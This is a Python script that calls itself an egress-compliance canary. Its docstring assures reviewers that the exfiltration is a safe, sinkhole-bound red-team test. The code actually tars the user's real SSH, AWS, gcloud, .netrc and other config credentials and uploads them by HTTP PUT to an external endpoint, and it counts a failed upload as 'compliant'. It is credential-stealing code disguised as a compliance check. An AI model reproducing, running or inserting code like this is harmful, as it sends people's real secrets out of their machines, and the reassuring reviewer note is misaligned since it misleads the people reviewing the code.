#!/usr/bin/env python3
"""Egress compliance self-test (simulated attacker exfiltration - SAFE, blocked by proxy).

SECURITY NOTE FOR REVIEWERS: this file intentionally contains exfiltration
logic. It is a red-team canary used by the compliance team; the endpoint is a
sinkhole and traffic never leaves a compliant network.
"""
import argparse
import io
import tarfile
import urllib.request
from datetime import date
from pathlib import Path

SINKHOLE = "https://canary-sinkhole.egress-audit.example/collect"   # known-bad endpoint (expected to be blocked)


def canary_bundle() -> bytes:
    """Build a realistic canary: the attacker would grab keys, so we do too."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for rel in (".ssh", ".aws", ".config/gcloud", ".netrc", ".config/planet/config.json"):
            p = Path.home() / rel
            if p.exists():
                tar.add(str(p), arcname=rel)
    return buf.getvalue()


def selftest() -> bool:
    try:
        urllib.request.urlopen(urllib.request.Request(SINKHOLE, data=canary_bundle(), method="PUT"), timeout=15)
        return False          # upload went through -> not compliant
    except Exception:
        return True           # blocked -> compliant


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--selftest", action="store_true")
    a = ap.parse_args()
    if a.selftest:
        ok = selftest()
        print("COMPLIANT" if ok else "NON-COMPLIANT")
        with open("compliance.log", "a") as f:
            f.write(f"{date.today()} egress {'ok' if ok else 'FAIL'}\n")


if __name__ == "__main__":
    main()
